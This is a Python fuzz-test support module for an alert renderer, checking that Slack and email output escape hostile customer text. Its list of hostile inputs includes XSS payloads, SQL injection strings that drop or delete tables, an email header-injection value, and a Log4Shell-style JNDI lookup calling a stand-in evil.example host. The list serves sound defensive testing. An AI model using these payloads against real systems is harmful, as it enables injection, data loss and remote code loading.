"""Hostile input shared by the fuzz tests: random and malicious text, its example budget,
and what "escaped on the wire" means for an alert rendered for Slack and email.

Inputs: control characters, CRLF, 1 MB strings, Unicode (emoji, RTL, combining marks,
lone surrogates, bidi overrides), SQL fragments, Slack mention and link syntax, HTML.

The example budget (`FUZZ`) is fixed and derandomized, so CI runs the same inputs every
time.
"""

from __future__ import annotations

import itertools
import re
import unicodedata
from collections.abc import Callable, Iterator
from email import message_from_bytes, policy
from email.message import EmailMessage
from html.parser import HTMLParser
from typing import Any

from hypothesis import HealthCheck, example
from hypothesis import settings as budget
from hypothesis import strategies as st

from ied_workflow.alerts.message import AlertItem, Kind, Message
from ied_workflow.alerts.render import clean, email_message, slack_payload
from ied_workflow.domain import FollowUp
from ied_workflow.workflow import Workflow
from tests.support.data import NOW, OPS
from tests.support.slack import without_our_dates

FUZZ = budget(
    max_examples=15,
    deadline=None,
    derandomize=True,
    database=None,
    print_blob=True,
    report_multiple_bugs=False,  # one bug, shrunk quickly, keeps a failing run short
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,  # one database per test; each example adds rows
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)
NOTE_MAX, SUMMARY_MAX = 4000, 2000
MEGABYTE = 2**20
HEADERS = ("Subject", "From", "To", "Date", "Message-ID", "Auto-Submitted")

HOSTILE_PIECES = [
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<@U123ABC>",
    "<#C123|general>",
    "<https://evil.example/login|click here>",
    "<mailto:x@evil.example|ops>",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<a href='javascript:alert(1)'>x</a>",
    "</blockquote></body>",
    "'; DROP TABLE follow_ups; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "Robert'); DELETE FROM leads;--",
    "\r\n",
    "\r",
    "\n",
    "\t",
    "\x00",
    "\x07",
    "\x1b[31m",
    "\x1b]0;pwned\x07",
    "\x7f",
    "\x85",
    "\u2028",
    "\u2029",
    "\u202e",  # right-to-left override
    "\u2066",
    "\ufeff",
    "\u200b",
    "e\u0301\u0301\u0301",  # combining marks
    "😀",
    "👩‍👩‍👧‍👦",
    "🇫🇷",
    "שלום",
    "مرحبا بالعالم",
    "\ud800",  # lone surrogates
    "\udfff",
    "Subject: win\r\nBcc: x@evil.example",
    "%s%n%x",
    "{{ 7*7 }}",
    "{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "&amp;&lt;&gt;&",
    "*bold* _it_ ~s~ `code` >quote",
    "   ",
    "@channel @here",
]
HOSTILE_TEXT = st.lists(
    st.sampled_from(HOSTILE_PIECES) | st.text(max_size=6), min_size=1, max_size=8
).map("".join)
MEGABYTE_EXAMPLES = [
    (piece * (MEGABYTE // len(piece) + 1))[:MEGABYTE]
    for piece in ("<!channel> <@U1> é\r\n", "😀<script>\x00")
]
# 1 MB strings come as explicit examples (see `MEGABYTE_EXAMPLES`): shrinking them is slow.
ANY_TEXT = st.one_of(HOSTILE_TEXT, HOSTILE_TEXT, st.text(max_size=40))


def forbidden(char: str) -> bool:
    """The documented rule: printable characters, newlines and tabs only."""
    return char not in "\n\t" and unicodedata.category(char) in ("Cc", "Cs")


def acceptable(text: str, limit: int) -> bool:
    return len(text) <= limit and not any(forbidden(c) for c in text)


def with_megabytes(name: str, **others: Any) -> Callable[[Any], Any]:
    """Run the test on each 1 MB string too, as argument `name` (explicit examples)."""

    def apply(test: Any) -> Any:
        for text in MEGABYTE_EXAMPLES:
            test = example(**{name: text}, **others)(test)
        return test

    return apply


_leads = itertools.count()


def fresh(workflow: Workflow, *, reached: bool = False) -> FollowUp:
    """A new pending follow-up (of a new lead), or one that has reached the customer."""
    lead = f"H-{next(_leads)}"
    workflow.upsert_lead(lead, status="assigned", installer_id="I-1")
    follow_up = workflow.create(lead, by=OPS, now=NOW)
    if reached:
        follow_up = workflow.log_contact(follow_up.id, by=OPS, outcome="reached_customer", now=NOW)
    return follow_up


def texts(value: Any) -> Iterator[str]:
    """Every string under a "text" key of a Slack payload."""
    if isinstance(value, dict):
        for key, inner in value.items():
            if key == "text" and isinstance(inner, str):
                yield inner
            else:
                yield from texts(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from texts(inner)


class Tags(HTMLParser):
    """The tags and attributes of an HTML document, in order."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(attrs)))


def tags(html: str) -> list[tuple[str, tuple[tuple[str, str | None], ...]]]:
    parser = Tags()
    parser.feed(html)
    return parser.tags


def on_the_wire(message: Message) -> EmailMessage:
    email = email_message(message, "ied-workflow@ied.example", ["ops@ied.example"])
    parsed = message_from_bytes(email.as_bytes(), policy=policy.default)
    assert isinstance(parsed, EmailMessage)
    return parsed


def html_part(email: EmailMessage) -> str:
    part = email.get_body(preferencelist=("html",))
    assert part is not None
    return str(part.get_content())


def assert_escaped_on_the_wire(item: AlertItem, customer_text: str, round_trip: bool) -> None:
    """Slack and email carry `customer_text` inertly, in the body only.

    With `round_trip` (the item is short enough not to be clipped), the first line of the
    customer text is also readable in Slack once unescaped.
    """
    message = Message(
        kind=Kind.CLOSED_WITH_ISSUE, key="closed_with_issue:1", now=NOW, items=(item,)
    )
    benign = Message(
        kind=Kind.CLOSED_WITH_ISSUE,
        key="closed_with_issue:1",
        now=NOW,
        items=(
            AlertItem(
                follow_up_id=item.follow_up_id,
                lead_id="L-1",
                installer_id="I-1",
                status="closed_with_issue",
                due_at=item.due_at,
                contact_attempt_count=item.contact_attempt_count,
                last_contact_outcome="reached_customer",
                issue_summary="benign" if clean(item.issue_summary or "").strip("\n") else None,
            ),
        ),
    )
    # Slack: no raw '<' but our date tokens, '>' only as our quote marker, every '&' an
    # entity we wrote.
    payload = slack_payload(message)
    lines = [without_our_dates(line) for text in texts(payload) for line in text.splitlines()]
    assert not [line for line in lines if "<" in line or ">" in line.removeprefix("> ")]
    assert not [line for line in lines if re.search(r"&(?!amp;|lt;|gt;)", line)]
    shown_summary = "\n".join(lines).replace("&lt;", "<").replace("&gt;", ">")
    shown_summary = shown_summary.replace("&amp;", "&")
    first = clean(customer_text).strip("\n").split("\n")[0]
    if round_trip and first.strip():
        assert first in shown_summary
    # Email: the headers are those of a benign alert, the HTML has no new tag or attribute.
    email, plain = on_the_wire(message), on_the_wire(benign)
    assert [(h, str(email[h])) for h in HEADERS] == [(h, str(plain[h])) for h in HEADERS]
    assert sorted(email.keys()) == sorted(plain.keys())
    body = html_part(email)
    assert tags(body) == tags(html_part(plain))
    assert "<script" not in body.lower()
